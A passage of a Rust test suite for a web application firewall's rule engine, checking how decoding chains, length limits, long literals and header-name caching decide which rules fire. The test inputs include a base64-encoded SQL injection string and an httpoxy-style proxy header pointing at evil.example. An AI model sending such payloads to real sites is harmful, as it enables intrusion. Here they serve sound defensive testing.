            .map(|m| (m.rule_id, m.fragment))
            .collect()
    };
    let req = Request::new("PROPFIND", "/")
        .header("host", b"app")
        .header("content-type", b"text/plain; charset=UTF-8; charset=UTF-8")
        .header("accept", b"text/html;charset=utf-8, */*;charset=IBM037")
        .header("range", b"bytes=0-,150-120");
    assert_eq!(
        fragments(&req),
        [
            (1013, "PROPFIND".to_string()),
            (1018, "; charset=utf-8; charset=".to_string()),
            (1035, "ibm037".to_string()),
            (1043, "150-120".to_string()),
        ]
    );
    let fine = Request::new("GET", "/")
        .header("host", b"app")
        .header("content-type", b"application/json; charset=UTF-8")
        .header("accept", b"text/html;charset=utf-8")
        .header("accept-charset", b"utf-8, iso-8859-1;q=0.5, *;q=0.1")
        .header("range", b"bytes=150-1200, 5-1");
    assert_eq!(fragments(&fine), []);
}

/// Rules after `base64_text` judge what it decodes, and a value that is not base64 text
/// leaves them the empty value: a chain is skipped for values whose bytes cannot be base64
/// (a quote, a dot) only when none of its rules can match the empty value, and never for
/// a value that its earlier steps turn into base64.
#[test]
fn base64_text_chains_see_decoded_text_or_the_empty_value() {
    let yaml = r#"rules:
  - id: 1
    message: hidden in base64
    tags: [probe]
    severity: critical
    targets: [args, cookies]
    transforms: [url_decode, base64_text]
    operator:
      literals: ["' or 1=1"]
  - id: 2
    message: nothing hidden
    tags: [probe]
    severity: notice
    targets: [cookie_names]
    transforms: [base64_text]
    operator:
      regex: '^$'
"#;
    let e = Engine::new(RuleSet::from_yaml("b64.yaml", yaml).expect("compiles"));
    let fired = |req: &Request<'_>| fired_rules(&e, req, &WafSettings::default());
    // Plain, URL-encoded (only base64 once decoded), and spoilt by a byte no base64 has.
    let q = |target: &str| fired(&Request::new("GET", target));
    assert_eq!(q("/?q=JyBvciAxPTEtLQ%253D%253D"), [1]);
    assert_eq!(q("/?q=JyBvciAxPTEtLQ"), [1]);
    assert_eq!(q("/?q=JyBvciAxPTEtLQ."), Vec::<u32>::new());
    let cookie = |c: &[u8]| fired(&Request::new("GET", "/").header("cookie", c));
    // A cookie name that is not base64 text (`s`, `it's`) is empty to rule 2; one that
    // is, is not.
    assert_eq!(cookie(b"s=JyBvciAxPTEtLQ%3D%3D"), [1, 2]);
    assert_eq!(cookie(b"it's=1"), [2]);
    assert_eq!(cookie(b"JyBvciAxPTEtLQ=1"), Vec::<u32>::new());

    // The embedded rule at paranoia 2, in a JSON body and in a URL-encoded cookie.
    let e = engine();
    let p2 = WafSettings::default().with_paranoia(2);
    let body = br#"{"note":"JyBvciAxPTEtLQ==","other":"don't, it's fine"}"#;
    let req = Request::new("POST", "/")
        .header("content-type", b"application/json")
        .body(body);
    assert!(fired_rules(&e, &req, &p2).contains(&4208));
    let req = Request::new("GET", "/").header("cookie", b"s=JyBvciAxPTEtLQ%3D%3D");
    assert!(fired_rules(&e, &req, &p2).contains(&4208));
}

/// Chains that start by URL-decoding are dropped together for a value with `%` when the
/// decoded value wakes none of their later steps, none of their literals and none of
/// their unconditional rules; each of the three still makes its chain run.
#[test]
fn chains_dropped_after_url_decoding_are_only_those_the_decoded_value_cannot_fire() {
    let yaml = r#"rules:
  - id: 1
    message: a literal of the decoded value
    tags: [probe]
    severity: critical
    targets: [headers]
    transforms: [url_decode, remove_nulls]
    operator:
      literals: [alpha]
  - id: 2
    message: markup once entities are decoded too
    tags: [probe]
    severity: critical
    targets: [headers]
    transforms: [url_decode, html_entity_decode]
    operator:
      literals: ["<b>"]
  - id: 3
    message: no literal, a byte the decoded value holds
    tags: [probe]
    severity: critical
    targets: [headers]
    transforms: [url_decode, fold_unicode]
    operator:
      bytes_outside: [[32, 126]]
  - id: 4
    message: never
    tags: [probe]
    severity: critical
    targets: [headers]
    transforms: [url_decode, compress_whitespace]
    operator:
      literals: [omega]
"#;
    let fired = header_prober("decoded.yaml", yaml);
    assert_eq!(fired(b"%61lpha"), [1]);
    assert_eq!(fired(b"x%26lt;b%3E"), [2]);
    assert_eq!(fired(b"a%0Ab"), [3]);
    assert_eq!(fired(b"a%2Cb"), Vec::<u32>::new());
    assert_eq!(fired(b"%61lpha %26lt;b> %00 omeg%61"), [1, 2, 3, 4]);
}

#[test]
fn length_checks_fire_past_their_limit_on_every_kind_they_target() {
    // Rules 1 and 2 are the empty chain's only rules on names: the engine passes names no
    // longer than 8 bytes over that chain. On values it also holds literal rule 3.
    let yaml = r#"rules:
  - id: 1
    message: long name
    tags: [probe]
    severity: critical
    targets: [arg_names]
    operator: {length_over: 8}
  - id: 2
    message: longer name or value
    tags: [probe]
    severity: critical
    targets: [arg_names, args]
    operator: {length_over: 12}
  - id: 3
    message: a literal of values
    tags: [probe]
    severity: critical
    targets: [args]
    operator:
      literals: [zebra]
"#;
    let e = Engine::new(RuleSet::from_yaml("lengths.yaml", yaml).expect("compiles"));
    let s = WafSettings::default();
    let query = |target: &str| fired_rules(&e, &Request::new("GET", target), &s);
    let json = |body: &str| {
        let req = Request::new("POST", "/")
            .header("content-type", b"application/json")
            .body(body.as_bytes());
        fired_rules(&e, &req, &s)
    };
    assert_eq!(query("/?abcdefgh=1"), Vec::<u32>::new());
    assert_eq!(query("/?abcdefghi=1"), [1]);
    assert_eq!(query("/?abcdefghijklm=1"), [1, 2]);
    assert_eq!(query("/?a=abcdefghijkl"), Vec::<u32>::new());
    assert_eq!(query("/?a=abcdefghijklm"), [2]);
    assert_eq!(json(r#"{"abcdefgh":"zebra"}"#), [3]);
    assert_eq!(json(r#"{"abcdefghi":"x"}"#), [1]);
    assert_eq!(
        json(r#"{"abcdefghijklm":{"b":"abcdefghijklm"}}"#),
        [1, 2, 2]
    );
}

#[test]
fn a_literal_longer_than_the_automata_hold_counts_only_whole() {
    // The automata hold 8-byte prefixes; the rest of a literal is checked where one hits,
    // in the value itself (the body walk's hits too), and word checks see the whole.
    let yaml = r#"rules:
  - id: 1
    message: long literal
    tags: [probe]
    severity: critical
    targets: [headers, args]
    operator:
      literals: ["nmap scripting engine"]
  - id: 2
    message: nine bytes
    tags: [probe]
    severity: critical
    targets: [headers, args]
    operator:
      literals: ["ninebytes"]
  - id: 3
    message: a long word, then a digit
    tags: [probe]
    severity: critical
    targets: [headers, args]
    operator:
      regex: 'unicornsparkle\d'
      requires_words: ["unicornsparkle"]
"#;
    let e = Engine::new(RuleSet::from_yaml("long.yaml", yaml).expect("compiles"));
    let s = WafSettings::default();
    let header = |value: &str| {
        let req = Request::new("GET", "/").header("x-probe", value.as_bytes());
        fired_rules(&e, &req, &s)
    };
    let json = |body: &str| {
        let req = Request::new("POST", "/")
            .header("content-type", b"application/json")
            .body(body.as_bytes());
        fired_rules(&e, &req, &s)
    };
    let none = Vec::<u32>::new();
    assert_eq!(header("ua nmap Scripting ENGINE x"), [1]);
    assert_eq!(header("ua nmap scripting"), none);
    assert_eq!(header("ua nmap scripting engin"), none);
    assert_eq!(header("ua nmap scriptXng engine"), none);
    assert_eq!(header("NINEBYTEs"), [2]);
    assert_eq!(header("ninebyte"), none);
    assert_eq!(header("say unicornsparkle7"), [3]);
    assert_eq!(header("sayunicornsparkle7"), none);
    // Long enough to be walked in two halves, the literal across the middle.
    let long = format!(
        "{}nmap scripting engine{}",
        "a, ".repeat(20),
        ", b".repeat(20)
    );
    assert_eq!(header(&long), [1]);
    assert_eq!(json(r#"{"a":"x nmap scripting engine y"}"#), [1]);
    assert_eq!(json(r#"{"a":"x nmap scr","b":"ipting engine"}"#), none);
    assert_eq!(json(r#"{"a":"x nmap scripting","b":" engine"}"#), none);
    assert_eq!(json(r#"{"a":"ninebyte","b":"s"}"#), none);
    assert_eq!(json(r#"{"a":"say unicornsparkle7"}"#), [3]);
}

/// Header names found to match nothing are remembered by the thread and skipped in later
/// requests: only where they were found so (the same rule set, the same paranoia level),
/// and never when a rule's test matched and a condition or an exclusion set it aside.
#[test]
fn header_names_found_clean_are_skipped_only_where_they_were_found_clean() {
    let rules = |literal: &str| {
        format!(
            r#"rules:
  - id: 1
    message: probing header name, paranoia 2
    tags: [probe]
    severity: critical
    paranoia: 2
    targets: [header_names]
    operator:
      literals: ["{literal}"]
  - id: 2
    message: debugging header name on a request with a body
    tags: [probe]
    severity: critical
    targets: [header_names]
    when: has_body
    operator:
      literals: ["x-debug-token"]
"#
        )
    };
    let probing =
        Engine::new(RuleSet::from_yaml("probe.yaml", &rules("x-probe")).expect("compiles"));
    let other = Engine::new(RuleSet::from_yaml("other.yaml", &rules("x-other")).expect("compiles"));
    let p1 = WafSettings::default();
    let p2 = WafSettings::default().with_paranoia(2);
    let probe = Request::new("GET", "/").header("x-probe", b"1");
    for _ in 0..2 {
        // Clean at paranoia 1, and under the rule set that does not look for the name...
        assert_eq!(fired_rules(&probing, &probe, &p1), [] as [u32; 0]);
        assert_eq!(fired_rules(&other, &probe, &p2), [] as [u32; 0]);
        // ...which says nothing of paranoia 2 under the set that does.
        assert_eq!(fired_rules(&probing, &probe, &p2), [1]);
    }
    // A condition that does not hold sets the match aside; the name is not clean.
    let debug_get = Request::new("GET", "/").header("x-debug-token", b"1");
    let debug_post = Request::new("POST", "/")
        .header("x-debug-token", b"1")
        .header("content-type", b"text/plain")
        .body(b"hello");
    assert_eq!(fired_rules(&probing, &debug_get, &p1), [] as [u32; 0]);
    assert_eq!(fired_rules(&probing, &debug_post, &p1), [2]);
    // Neither does an exclusion.
    let excluding = WafSettings {
        exclusions: vec![Exclusion {
            rules: vec![1],
            ..Exclusion::default()
        }],
        ..WafSettings::default().with_paranoia(2)
    };
    assert_eq!(fired_rules(&probing, &probe, &excluding), [] as [u32; 0]);
    assert_eq!(fired_rules(&probing, &probe, &p2), [1]);
    // The base rules: the usual names pass again and again, `Proxy` is refused each time.
    let e = engine();
    let usual = Request::new("GET", "/")
        .header("host", b"shop")
        .header("accept", b"*/*");
    let httpoxy = Request::new("GET", "/").header("proxy", b"http://evil.example");
    for _ in 0..3 {
        assert_eq!(e.inspect(&usual, &p1, None).action, Action::Pass);
        assert_eq!(fired_rules(&e, &httpoxy, &p1), [1015]);
    }
}
